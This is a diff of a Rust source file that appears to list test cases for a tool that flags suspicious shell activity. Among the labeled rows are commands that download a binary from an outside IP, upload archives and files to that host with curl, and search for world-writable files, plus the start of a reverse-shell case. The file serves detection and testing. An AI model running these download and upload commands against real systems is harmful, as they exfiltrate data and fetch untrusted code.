@@ -199,9 +199,8 @@ pub(super) const HABITS: &[Row] = &[
         t.command(sh, "wget http://203.0.113.7/arm7");
     }),
     ("sensitive-upload", Suspicious, |t| {
-        runs(t, "curl -F data=@/tmp/out.tar.gz http://203.0.113.7/up");
+        runs(t, "curl -F data=@/tmp/out.tar.gz http://203.0.113.7:8888/up");
     }),
-    ("sensitive-upload", Suspicious, |t| runs(t, "curl -T list.csv ftp://203.0.113.7/x")),
     ("privileged-file-search", Suspicious, |t| runs(t, "find / -type f -perm -333")),
     ("reverse-shell-command", Suspicious, |t| {
         t.spawn(
